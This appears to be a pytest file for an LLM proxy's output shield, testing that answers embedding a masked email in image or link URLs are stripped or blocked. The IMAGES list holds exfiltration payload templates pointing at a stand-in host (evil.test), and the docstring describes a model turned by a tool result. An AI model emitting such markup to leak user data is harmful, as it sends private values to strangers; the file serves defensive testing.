"""A model that a tool's result has turned writes a placeholder into an address: what it stands for must not be fetched to a stranger."""

from typing import Any

import pytest
from msgspec import structs

from llmproxy.common.answers import Answers, Links
from llmproxy.common.policy import Policy
from llmproxy.shield.answers.asked import Asked
from llmproxy.shield.answers.guards import Guards
from llmproxy.shield.answers.reading import Reading
from llmproxy.shield.answers.stage import Stopped
from llmproxy.shield.guards import GUARDS
from llmproxy.shield.links import image_reason, link_reason
from llmproxy.shield.vault import Vault, tenant_key
from llmproxy.shield.window import Originals

MAIL = "ada@example.com"
VAULT = Vault(tenant_key(b"secret", "acme"), frozenset)
STANDS = VAULT.mask("email", MAIL)


def read(text: str, size: int, request: Asked | None = None, **answers: Any) -> tuple[str, dict[str, int]]:
    guards = Guards(GUARDS, structs.replace(Policy(), answers=Answers(**answers)))
    reading = Reading(guards, request or Asked(), Originals(VAULT.originals), clock=lambda: 0.0)
    opened = reading.open()
    said = [opened.push(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*said, opened.flush()]), reading.findings.counts


IMAGES = [
    "![x](https://evil.test/{}.png)",
    "![x](https://evil.test/a/{}/b)",
    "![x](<https://evil.test/{}>)",
    "![x](https://{}.evil.test/a.png)",
    "![x](https://{}@evil.test/a.png)",
    "![x](//evil.test/{})",
    "<img src='https://evil.test/{}'>",
    "<td background=https://evil.test/{}>",
    "![x][a]\n\n[a]: https://evil.test/{}\n",
]


@pytest.mark.parametrize("size", [1, 7, 1_000])
@pytest.mark.parametrize("image", IMAGES)
def test_an_image_whose_address_holds_a_masked_value_is_taken_out(image: str, size: int) -> None:
    said, counts = read(f"Here: {image.format(STANDS)} ok", size)
    assert MAIL not in said
    assert any(kind.startswith("answer.image.") for kind in counts)


@pytest.mark.parametrize("size", [1, 1_000])
def test_a_link_with_one_is_recorded_and_can_end_the_answer(size: int) -> None:
    text = f"See [this](https://evil.test/{STANDS}) now"
    said, counts = read(text, size)
    assert counts == {"answer.link.payload": 1}
    assert said == text.replace(STANDS, MAIL)
    with pytest.raises(Stopped):
        read(text, size, links=Links(others="block"))


@pytest.mark.parametrize("size", [1, 1_000])
def test_beside_an_address_and_at_a_host_that_the_user_names_a_value_comes_back(size: int) -> None:
    beside = f"![a chart for {STANDS}](https://evil.test/a.png) and {STANDS}"
    assert read(beside, size) == (beside.replace(STANDS, MAIL), {})
    own = f"![x](https://img.acme.test/{STANDS}.png)"
    request = Asked(users="show me my picture at img.acme.test")
    assert read(own, size, request) == (own.replace(STANDS, MAIL), {})
    assert read(own, size, links=Links(allowed=("acme.test",))) == (own.replace(STANDS, MAIL), {})


def test_what_only_looks_like_a_placeholder_is_not_waited_for() -> None:
    for reason in (image_reason, link_reason):
        assert reason("https://x.test/[EMAIL_0123]", Links(), lambda _: False) == ""
        assert reason(f"https://x.test/{STANDS}", Links(), lambda _: False) == "payload"
        assert reason(f"https://x.test/{STANDS}", Links(), lambda _: True) == ""
        assert reason(f"/a/{STANDS}", Links(), lambda _: False) == ""
